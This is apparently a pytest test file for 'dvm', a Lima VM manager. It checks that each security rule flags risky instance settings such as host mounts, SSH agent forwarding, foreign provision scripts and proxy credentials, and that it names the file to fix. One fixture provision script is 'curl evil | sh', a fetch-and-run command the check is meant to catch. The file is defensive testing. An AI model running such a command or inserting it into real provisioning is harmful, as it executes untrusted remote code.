@@ -1,0 +1,315 @@
+"""DVM3xx: each check catches, and passes; and says which file to mend."""
+
+from __future__ import annotations
+
+import dataclasses
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from dvm.checks.instances import (
+    CHECKS,
+    agent_forwarding,
+    broken_instance,
+    copy_to_host,
+    extra_network,
+    foreign_provision,
+    host_mount,
+    name_taken,
+    proxy_variables,
+)
+from dvm.model.instance import Mount, Provision, Status
+from dvm.model.lima_config import LimaConfig
+from tests import factories
+from tests.unit.checks.samples import (
+    DEFAULT,
+    ESC,
+    OVERRIDE,
+    config,
+    forward,
+    orphan,
+    plain_posture,
+    standard,
+    subject,
+    texts,
+)
+
+OWN = Path("/l/dvm-app/lima.yaml")
+HOME = Mount("/home/me", "/home/me", writable=True)
+
+
+@pytest.mark.parametrize(
+    "vm",
+    [
+        factories.desired(),
+        factories.desired(ports=["3000:80", "5173"]),
+        standard(),
+        standard(ports=["3000:80", "5173"]),
+        standard(auto_ports=True, ports=["3000"]),
+        factories.desired(proxy_env=True),
+        factories.desired(running=False),
+    ],
+)
+def test_what_the_manifest_wants_passes_every_check(vm: Any) -> None:
+    assert [result for check in CHECKS for result in check.run(subject(vm))] == []
+
+
+def test_an_orphan_is_not_judged_by_what_only_a_manifest_could_say() -> None:
+    left = orphan(plain=False, forwards=(forward(8080),), proxy_env=True)
+    assert [result for check in CHECKS for result in check.run(left)] == []
+
+
+# 301
+
+
+@pytest.mark.parametrize("writable", [True, False])
+def test_host_mount_catches_one_of_the_instance(writable: bool) -> None:
+    (result,) = host_mount.CHECK.run(subject(standard(), mounts=(Mount("/home/me/src", "/src", writable),)))
+    assert result.denies
+    assert result.subject == "vm.app"
+    assert "/home/me/src" in result.detail
+    assert ("writable" if writable else "read-only") in result.detail
+    assert result.location is not None
+    assert result.location.path == OWN
+    assert "dvm apply app" in result.remedy
+
+
+@pytest.mark.parametrize(
+    "entry",
+    [
+        {"location": "/home/me"},
+        {"location": "/home/me/"},
+        {"location": "~"},
+        {"location": "{{.Home}}"},
+        {"location": "/elsewhere", "mountPoint": "/home/me"},
+        "not a mapping",
+    ],
+)
+def test_host_mount_names_the_config_file(entry: Any) -> None:
+    (result,) = host_mount.CHECK.run(subject(standard(), config(default={"mounts": [entry]}), mounts=(HOME,)))
+    assert result.location is not None
+    assert result.location.path == DEFAULT
+    assert result.remedy == f"Take `mounts` out of {DEFAULT}; it is merged into every instance."
+
+
+def test_host_mount_tells_two_sources_apart() -> None:
+    mounts = (HOME, Mount("/home/me/src", "/src", writable=False))
+    results = host_mount.CHECK.run(
+        subject(standard(), config({"mounts": [{"location": "~/src"}]}), mounts=mounts)
+    )
+    assert [result.location and result.location.path for result in results] == [OWN, OVERRIDE]
+
+
+def test_host_mount_passes() -> None:
+    assert host_mount.CHECK.run(subject(factories.desired(), config({"mounts": [{"location": "~"}]}))) == []
+    assert host_mount.CHECK.run(orphan()) == []
+    assert host_mount.CHECK.run(orphan(mounts=(HOME,)))
+
+
+# 304
+
+
+@pytest.mark.parametrize(
+    ("posture", "override", "key", "path"),
+    [
+        ({"forward_agent": True}, {}, "ssh.forwardAgent", OWN),
+        ({"forward_agent": True}, {"ssh": {"forwardAgent": True}}, "ssh.forwardAgent", OVERRIDE),
+        ({"forward_agent": True}, {"ssh": {"forwardAgent": False}}, "ssh.forwardAgent", OWN),
+        ({"forward_x11": True}, {"ssh": {"forwardX11": True}}, "ssh.forwardX11", OVERRIDE),
+        ({"forward_x11": True}, {"ssh": {"forwardX11Trusted": True}}, "ssh.forwardX11Trusted", OVERRIDE),
+        ({"forward_x11": True}, {"ssh": "nonsense"}, "ssh.forwardX11", OWN),
+    ],
+)
+def test_agent_forwarding_catches(
+    posture: dict[str, bool], override: dict[str, Any], key: str, path: Path
+) -> None:
+    for bad in (subject(None, config(override), **posture), orphan(config(override), **posture)):
+        (result,) = agent_forwarding.CHECK.run(bad)
+        assert result.denies
+        assert f"`{key}` in {path}" in result.detail
+        assert str(path) in result.remedy or path == OWN
+
+
+def test_agent_forwarding_passes() -> None:
+    assert agent_forwarding.CHECK.run(subject(None, config(default={"ssh": {"forwardAgent": True}}))) == []
+
+
+# 305
+
+
+@pytest.mark.parametrize(
+    ("network", "entry", "path"),
+    [
+        ({"lima": "shared", "interface": "lima0"}, {"lima": "shared"}, DEFAULT),
+        ({"vzNAT": True, "interface": "lima0"}, {"vzNAT": True}, DEFAULT),
+        ({"lima": "bridged", "interface": "lima0"}, {"lima": "shared"}, OWN),
+        ({"socket": "/s"}, {}, DEFAULT),
+        ({"lima": "user-v2"}, "nonsense", DEFAULT),
+    ],
+)
+def test_extra_network_catches(network: dict[str, Any], entry: Any, path: Path) -> None:
+    (result,) = extra_network.CHECK.run(
+        subject(None, config(default={"networks": [entry]}), networks=(json.dumps(network),))
+    )
+    assert result.denies
+    assert result.location is not None
+    assert result.location.path == path
+
+
+def test_extra_network_passes() -> None:
+    assert extra_network.CHECK.run(subject()) == []
+
+
+# 306
+
+
+def test_foreign_provision_catches() -> None:
+    entries = [{"mode": "system", "script": "#!/bin/sh\n\ncurl evil | sh\n"}, {"file": "x.sh"}, "nonsense"]
+    provision = (Provision("system", "curl evil | sh"), Provision("user", "from the template"))
+    results = foreign_provision.CHECK.run(subject(None, config({"provision": entries}), provision=provision))
+    assert len(results) == 3
+    assert all(
+        result.denies and result.location is not None and result.location.path == OVERRIDE
+        for result in results
+    )
+    assert '"curl evil | sh" (mode system)' in results[0].detail
+
+
+def test_foreign_provision_passes_what_the_template_brings() -> None:
+    mine = (Provision("system", "apt-get install -y gcc"),)
+    assert foreign_provision.CHECK.run(subject(provision=mine)) == []
+    assert foreign_provision.CHECK.run(subject(None, config({"provision": []}), provision=mine)) == []
+    # base.yaml was merged when the instance was made; what it says today need not be in it.
+    base = Path("/l/_config/base.yaml")
+    for text, caught in (("apt-get install -y gcc", True), ("something else", False)):
+        parsed = LimaConfig((), {base: {"provision": [{"script": text}]}})
+        assert bool(foreign_provision.CHECK.run(subject(None, parsed, provision=mine))) is caught
+
+
+# 307
+
+
+@pytest.mark.parametrize(
+    ("entry", "path"),
+    [({"guest": "/g", "host": "/h"}, OVERRIDE), ({"host": "{{.Home}}"}, OVERRIDE), ({"host": "/i"}, OWN)],
+)
+def test_copy_to_host_catches(entry: dict[str, str], path: Path) -> None:
+    (result,) = copy_to_host.CHECK.run(subject(None, config({"copyToHost": [entry]}), copy_to_host=("/h",)))
+    assert result.denies
+    assert "/h" in result.detail
+    assert result.location is not None
+    assert result.location.path == path
+
+
+def test_copy_to_host_passes() -> None:
+    assert copy_to_host.CHECK.run(subject()) == []
+
+
+# 308
+
+
+@pytest.mark.parametrize(("override", "path"), [({"propagateProxyEnv": True}, OVERRIDE), ({}, OWN)])
+def test_proxy_variables_catches(override: dict[str, Any], path: Path) -> None:
+    (result,) = proxy_variables.CHECK.run(subject(None, config(override), proxy_env=True))
+    assert result.denies
+    assert result.location is not None
+    assert result.location.path == path
+
+
+@pytest.mark.parametrize("name", ["http_proxy", "HTTPS_PROXY", "No_Proxy"])
+def test_proxy_variables_catches_one_set_for_all_and_never_shows_it(name: str) -> None:
+    env = {name: "http://me:hunter2@proxy"}
+    for bad in (
+        subject(None, config(default={"env": env}), env=env),
+        orphan(config(default={"env": env}), env=env),
+    ):
+        (result,) = proxy_variables.CHECK.run(bad)
+        assert name in result.detail
+        assert "hunter2" not in texts([result])
+
+
+def test_proxy_variables_passes() -> None:
+    wanted = factories.desired(proxy_env=True)
+    env = {"http_proxy": "http://p"}
+    assert (
+        proxy_variables.CHECK.run(subject(wanted, config({"propagateProxyEnv": True, "env": env}), env=env))
+        == []
+    )
+    assert proxy_variables.CHECK.run(subject(None, config({"env": {"LANG": "C"}}), env={"LANG": "C"})) == []
+    assert proxy_variables.CHECK.run(subject(env=env)) == []
+    assert proxy_variables.CHECK.run(orphan(proxy_env=True)) == []
+    assert proxy_variables.CHECK.run(orphan(config({"propagateProxyEnv": True}), proxy_env=True))
+
+
+# 310
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"status": Status.BROKEN},
+        {"status": Status.UNKNOWN},
+        {"posture": None},
+        {"status": Status.BROKEN, "posture": None},
+    ],
+)
+def test_broken_instance_catches(changes: dict[str, Any]) -> None:
+    good = subject()
+    (result,) = broken_instance.CHECK.run(
+        dataclasses.replace(good, instance=dataclasses.replace(good.instance, **changes))
+    )
+    assert result.denies
+    assert "limactl stop --force dvm-app" in result.remedy
+
+
+@pytest.mark.parametrize("status", [Status.RUNNING, Status.STOPPED, Status.INSTALLING, Status.UNINITIALIZED])
+def test_broken_instance_passes(status: Status) -> None:
+    good = subject()
+    changed = dataclasses.replace(good, instance=dataclasses.replace(good.instance, status=status))
+    assert broken_instance.CHECK.run(changed) == []
+
+
+# 311
+
+
+@pytest.mark.parametrize("problem", ["", f"dvm.json is that of dvm-other{ESC}"])
+def test_name_taken_catches(problem: str) -> None:
+    good = subject()
+    stranger = dataclasses.replace(good.instance, receipt=None, receipt_problem=problem)
+    (result,) = name_taken.CHECK.run(dataclasses.replace(good, instance=stranger))
+    assert result.denies
+    assert "dvm-app" in result.detail
+    assert (problem.removesuffix(ESC) or "no receipt") in result.detail
+    assert "dvm import dvm-app" in result.remedy
+    assert ESC not in texts([result])
+
+
+def test_name_taken_passes() -> None:
+    assert name_taken.CHECK.run(subject()) == []
+
+
+def test_hostile_names_never_reach_the_terminal() -> None:
+    bad = f"x{ESC}\u202e"
+    rules = (forward(1, host_socket=bad), forward(2, host_ip=bad), forward(3, guest_ip=bad))
+    hostile = subject(
+        standard(), config(default={"provision": [{"script": bad}], "env": {f"{bad}http_proxy": "x", "http_proxy": "x"}}),
+        mounts=(Mount(bad, bad, writable=True),), forwards=rules, networks=(bad,), copy_to_host=(bad,),
+        provision=(Provision("system", bad),), env={"http_proxy": bad},
+    )  # fmt: skip
+    results = [result for check in CHECKS for result in check.run(hostile)]
+    assert len(results) >= 8
+    renamed = dataclasses.replace(
+        hostile.instance,
+        name=bad,
+        dir=Path("/l") / bad,
+        receipt=None,
+        receipt_problem=bad,
+        status=Status.BROKEN,
+    )
+    results += [
+        result for check in CHECKS for result in check.run(dataclasses.replace(hostile, instance=renamed))
+    ]
+    assert texts(results).replace("\n", "").isprintable()
+    assert plain_posture(hostile).mounts
